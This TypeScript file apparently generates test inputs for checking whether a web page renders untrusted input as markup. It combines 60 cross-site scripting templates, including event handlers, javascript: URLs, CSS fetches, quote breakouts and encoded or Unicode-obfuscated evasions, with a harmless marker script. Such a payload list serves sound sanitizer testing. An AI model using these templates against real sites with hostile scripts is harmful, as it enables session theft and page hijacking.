/** What a payload that is run does first: one look at the page tells. */
const MARK = 'globalThis.markupRan=1'

/** Ways of markup to run a script or to have something fetched, around what they run and what they fetch. */
const ways: readonly ((run: string, url: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (_, url) => `<script src="${url}"></script>`,
  (run) => `<img src=x onerror="${run}">`,
  (_, url) => `<img src="${url}">`,
  (run) => `"><img src=x onerror=${run}>`,
  (run) => `'><svg/onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><set onbegin=${run} attributeName=x>`,
  (run) => `<body onload=${run}>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (_, url) => `<iframe src="${url}"></iframe>`,
  (run) => `<a href="javascript:${run}" autofocus onfocus="${run}">x</a>`,
  (run) => `javascript:${run}`,
  (run) => `data:text/html,<script>parent.${run}</script>`,
  (_, url) => `<link rel=stylesheet href="${url}">`,
  (_, url) => `<style>@import '${url}';</style>`,
  (_, url) => `<style>*{background:url(${url})}</style>`,
  (_, url) => `url(${url})`,
  (_, url) => `</style><style>body{background:url(${url})}`,
  (_, url) => `<base href="${url}">`,
  (_, url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (_, url) => `<object data="${url}"></object>`,
  (_, url) => `<embed src="${url}">`,
  (_, url) => `<video src="${url}" autoplay></video>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<select autofocus onfocus=${run}>`,
  (run) => `<textarea autofocus onfocus=${run}>`,
  (run) => `<marquee onstart=${run}>`,
  (run) => `<math><mtext><script>${run}</script></mtext></math>`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<!--><script>${run}</script>-->`,
  (run) => `<![CDATA[<script>${run}</script>]]>`,
  (run) => `</title><script>${run}</script>`,
  (run) => `</textarea><script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `#{${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `";${run};//`,
  (run) => `';${run};//`,
  (run) => `\`;${run};//`,
  (run) => `*/${run}/*`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `&#60;script&#62;${run}&#60;/script&#62;`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `<ScRiPt>${run}</sCrIpT>`,
  (run) => `<script/x>${run}</script>`,
  (run) => `<script\u00a0>${run}</script>`,
  (run) => `<img\u2028src=x\u2029onerror=${run}>`,
  (run) => `\u202e<script>${run}</script>\u202c`,
  (run) => `\ufeff<svg onload=${run}>`,
  (run) => `${'<div>'.repeat(40)}<img src=x onerror=${run}>`,
  (_, url) => `[a link](${url} "x") ![an image](${url})`,
]

/** How what is run is written. */
const runs: readonly string[] = [MARK, `eval(atob('${Buffer.from(MARK).toString('base64')}'))`]

/** 120 texts, each of which runs a script or fetches from `url` where a page takes it for markup. */
export function markupPayloads(url: string): readonly string[] {
  return runs.flatMap((run, round) => ways.map((way, at) => way(run, `${url}/${round}-${at}`)))
}
